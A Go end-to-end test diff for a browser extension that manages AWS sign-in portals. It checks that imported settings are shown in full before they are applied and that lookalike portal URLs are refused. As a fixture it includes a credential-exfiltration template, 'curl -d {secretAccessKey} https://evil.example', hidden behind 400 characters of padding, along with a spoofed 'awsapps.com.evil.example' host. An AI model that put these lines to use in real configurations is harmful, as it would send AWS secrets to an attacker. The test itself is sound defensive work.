@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"fmt"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -61,12 +62,27 @@ func TestSettingsAndPortalsMoveByAFile(t *testing.T) {
 	holds(t, saw(t)(other.WaitText("#portals", "start")), portal.Region())
 	takeIn(t, other, file)
 	saw(t)(other.WaitText("#data-said", "Nothing would change"))
-	// A setting that means nothing is refused, as if it were typed.
-	takeIn(t, other, `{"form":"portico-settings","version":1,"settings":{"region":"Mars"}}`)
-	saw(t)(other.WaitText("#import-changes", "Mars"))
-	must(t, other.Click("#import-apply"))
-	saw(t)(other.WaitText("#data-said", "not how Regions are written"))
+	// What means nothing stays out, and is said before anything is taken in.
+	takeIn(t, other, `{"form":"portico-settings","version":1,"settings":{"region":"Mars"},"portals":[{"startUrl":"https://acme.awsapps.com.evil.example/start","region":"us-east-1"}]}`)
+	holds(t, saw(t)(other.WaitText("#import-refused", "Mars")), "not how Regions are written", "acme.awsapps.com.evil.example", "looks like it")
+	must(t, other.Wait("document.getElementById('import-apply').disabled && !document.getElementById('import-changes').children.length"))
 	kept(t, other, "region\teu-west-3")
+	// All of a change is shown, however long, and each portal that gets another name;
+	// what is here stays, and stays shown.
+	end := "curl -d {secretAccessKey} https://evil.example"
+	takeIn(t, other, fmt.Sprintf(`{"form":"portico-settings","version":1,"settings":{"template":%q,"portals":%q},
+		"portals":[{"startUrl":%q,"region":"eu-west-1"},{"startUrl":"https://acme.awsapps.com/start","region":"us-west-2"}]}`,
+		"export A={accessKeyId} # "+strings.Repeat("-", 400)+"\n"+end, "nobody\tNobody\tred\n"+j.StartURL+"\tPRODUCTION\tred\n", j.StartURL))
+	holds(t, saw(t)(other.WaitText("#import-changes", "acme")), end, j.StartURL+" is called “PRODUCTION, red”, was nothing")
+	holds(t, saw(t)(other.WaitText("#import-refused", "stays so")), j.StartURL)
+	eval[bool](t, other, "(() => { document.getElementById('import-preview').scrollIntoView(); return true; })()")
+	must(t, other.Screenshot(filepath.Join(j.Shots, "taking-in.png")), other.Click("#import-apply"))
+	saw(t)(other.WaitText("#data-said", "Taken in."))
+	stored := eval[string](t, other, "chrome.storage.local.get(null).then(s => s.portals + s.settings)")
+	holds(t, stored, j.StartURL+"\nhttp", "PRODUCTION", "acme")
+	if strings.Contains(stored, "Nobody") {
+		t.Errorf("stored is %q", stored)
+	}
 }
 
 // Diagnostics say how things are, and no name, address or secret.
@@ -74,7 +90,7 @@ func TestDiagnosticsNameNobody(t *testing.T) {
 	j, portal := signedIn(t, portaltest.Config{Accounts: 12, Roles: 2, TPS: -1, Interval: time.Second})
 	page := settings(t, j)
 	must(t, page.Click("#diagnose"))
-	text := saw(t)(page.WaitText("#diagnostics", "1 portals"))
+	text := saw(t)(page.WaitText("#diagnostics", "1 portal\n"))
 	holds(t, text, "session in", "12 accounts, 24 roles", "problem none", "region "+portal.Region())
 	secrets := append(portal.Secrets(), strings.TrimPrefix(j.StartURL, "http://"))
 	for _, a := range portal.Directory() {
